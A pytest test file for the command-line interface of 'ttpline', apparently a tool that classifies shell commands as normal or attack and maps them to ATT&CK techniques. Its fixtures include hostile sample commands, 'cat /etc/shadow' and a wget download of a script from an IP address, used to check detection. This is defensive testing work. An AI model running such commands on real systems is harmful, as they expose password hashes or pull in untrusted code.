"""``classify`` and ``ingest`` as users and scripts call them."""

import json
import re
from pathlib import Path

import pytest

from ttpline.cli.main import run

LAST_LINE = re.compile(r"read \d+ events \(\d+ skipped\), \d+ commands, \d+ techniques, \d+\.\d s")


@pytest.fixture
def commands(tmp_path: Path) -> Path:
    path = tmp_path / "cmds.txt"
    path.write_text("ls -la\ncat /etc/shadow\nls -la\nwget http://192.0.2.7/a.sh\n")
    return path


def lines_of(text: str) -> list[dict[str, dict[str, object]]]:
    return [json.loads(line) for line in text.splitlines()]


def test_in_a_pipe_the_output_is_jsonl_in_input_order(
    commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["classify", str(commands), "--from", "text", "--model", model_dir]) == 0
    shown = capsys.readouterr()
    lines = lines_of(shown.out)
    assert [line["command"]["text"] for line in lines] == commands.read_text().splitlines()
    assert [line["prediction"]["verdict"] for line in lines] == ["normal", "attack", "normal", "attack"]
    assert shown.err.splitlines()[-1].startswith("read 4 events (0 skipped), 3 commands, 2 techniques, ")
    assert LAST_LINE.fullmatch(shown.err.splitlines()[-1])


def test_several_sinks_are_written_in_one_run(commands: Path, model_dir: str, tmp_path: Path) -> None:
    targets = [f"{kind}:{tmp_path / kind}.out" for kind in ("jsonl", "csv", "parquet", "table")]
    flags = [flag for target in targets for flag in ("--to", target)]
    assert run(["classify", str(commands), "--from", "text", "--model", model_dir, *flags]) == 0
    assert len((tmp_path / "jsonl.out").read_text().splitlines()) == 4
    assert len((tmp_path / "csv.out").read_text().splitlines()) == 5
    assert "T1003.008" in (tmp_path / "table.out").read_text()
    assert (tmp_path / "parquet.out").read_bytes()[:4] == b"PAR1"


def test_top_limits_the_techniques(commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]) -> None:
    run(["classify", str(commands), "--from", "text", "--model", model_dir, "--top", "1"])
    assert {len(line["prediction"]["techniques"]) for line in lines_of(capsys.readouterr().out)} == {1}  # type: ignore[arg-type]


def test_below_min_confidence_everything_is_uncertain(
    commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run(["classify", str(commands), "--from", "text", "--model", model_dir, "--min-confidence", "1"])
    assert {line["prediction"]["verdict"] for line in lines_of(capsys.readouterr().out)} == {"uncertain"}


def test_another_attack_version_gives_its_ids(
    commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run(["classify", str(commands), "--from", "text", "--model", model_dir, "--attack-version", "19"])
    assert {line["prediction"]["attack_version"] for line in lines_of(capsys.readouterr().out)} == {"19.2"}


def test_an_attack_version_nobody_knows_is_usage_before_any_output(
    commands: Path, model_dir: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.jsonl"
    flags = ["--attack-version", "7", "--to", f"jsonl:{out}"]
    assert run(["classify", str(commands), "--from", "text", "--model", model_dir, *flags]) == 2
    assert not out.exists()
    assert "there are: 18.1, 19.2" in capsys.readouterr().err


def test_sub_techniques_can_be_ranked(commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]) -> None:
    run(["classify", str(commands), "--from", "text", "--model", model_dir, "--label-space", "tactic"])
    techniques = lines_of(capsys.readouterr().out)[1]["prediction"]["techniques"]
    assert techniques[0]["tactics"] == ["credential-access"]  # type: ignore[index]


def test_a_platform_fills_what_the_log_does_not_say(
    commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run(["classify", str(commands), "--from", "text", "--model", model_dir, "--platform", "macos"])
    assert {line["event"]["platform"] for line in lines_of(capsys.readouterr().out)} == {"macos"}


def test_csv_columns_are_named_by_flag(tmp_path: Path, model_dir: str, capsys: pytest.CaptureFixture[str]) -> None:
    table = tmp_path / "export.csv"
    table.write_text("machine;what\nweb1;cat /etc/shadow\n")
    flags = ["--column", "command_line=what", "--column", "host=machine", "--delimiter", ";", "--from", "csv"]
    assert run(["classify", str(table), "--model", model_dir, *flags]) == 0
    event = lines_of(capsys.readouterr().out)[0]["event"]
    assert (event["host"], event["command_line"]) == ("web1", "cat /etc/shadow")


def test_half_a_column_flag_is_usage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.csv").write_text("a,b\n")
    assert run(["ingest", str(tmp_path / "a.csv"), "--column", "command_line"]) == 2
    assert "FIELD=COLUMN" in capsys.readouterr().err


def test_ingest_writes_plain_events_that_are_read_again_as_they_were(
    commands: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    assert run(["ingest", str(commands), "--from", "text", "--to", f"jsonl:{first}"]) == 0
    assert run(["ingest", str(first), "--to", f"jsonl:{second}"]) == 0
    assert first.read_bytes() == second.read_bytes()
    assert json.loads(first.read_text().splitlines()[1])["command_line"] == "cat /etc/shadow"


def test_skipped_records_are_listed_and_strict_ends_with_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log, skipped = tmp_path / "audit.log", tmp_path / "skipped.jsonl"
    log.write_text(
        'type=EXECVE msg=audit(1700000000.001:7): argc=1 a0="id"\ntype=SYSCALL msg=audit(17000\x1b[31m: broken\n'
    )
    flags = ["ingest", str(log), "--from", "auditd", "--to", f"jsonl:{tmp_path / 'out'}", "--skipped", str(skipped)]
    assert run(flags) == 0
    shown = capsys.readouterr().err
    assert "skipped 1 records:" in shown
    assert "record 2" in shown
    assert "\x1b" not in shown
    assert json.loads(skipped.read_text())["record"] == 2
    assert run([*flags, "--strict"]) == 1


def test_events_told_again_are_said_apart_and_strict_does_not_mind_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "a.log").write_text('type=EXECVE msg=audit(1700000000.001:7): argc=1 a0="id"\n')
    (logs / "b.log").write_bytes((logs / "a.log").read_bytes())
    flags = ["ingest", str(logs), "--strict", "--to", f"jsonl:{tmp_path / 'out'}"]
    assert run([*flags, "--skipped", str(tmp_path / "skipped")]) == 0
    said, last = capsys.readouterr().err.splitlines()
    assert said.startswith("told again: 1 events")
    assert last.startswith("read 1 events (0 skipped), 1 commands")
    assert json.loads((tmp_path / "skipped").read_text())["reason"] == "the same event again"
    (logs / "b.log").write_text("type=SYSCALL msg=audit(17000: broken\n" + (logs / "a.log").read_text())
    assert run(flags) == 1


def test_strict_without_skips_is_0(commands: Path) -> None:
    assert run(["ingest", str(commands), "--from", "text", "--strict"]) == 0


def test_an_empty_input_is_an_empty_output(model_dir: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    empty = tmp_path / "empty"
    empty.touch()
    assert run(["classify", str(empty), "--model", model_dir]) == 0
    shown = capsys.readouterr()
    assert shown.out == ""
    assert shown.err.startswith("read 0 events (0 skipped), 0 commands, 0 techniques, ")


def test_two_runs_give_the_same_bytes(commands: Path, model_dir: str, capsys: pytest.CaptureFixture[str]) -> None:
    outputs = []
    for _ in range(2):
        run(["classify", str(commands), "--from", "text", "--model", model_dir])
        outputs.append(capsys.readouterr().out)
    assert outputs[0] == outputs[1]
